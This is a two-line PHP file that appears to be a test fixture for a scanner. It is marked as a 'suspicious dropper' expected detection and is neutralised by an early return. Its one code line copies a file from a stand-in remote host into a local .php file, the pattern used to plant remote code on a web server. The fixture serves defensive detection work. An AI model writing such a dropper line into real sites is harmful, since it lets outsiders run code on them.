<?php return; // want: suspicious dropper php.write.remote
copy('http://files.example.net/page.txt', 'page.php');
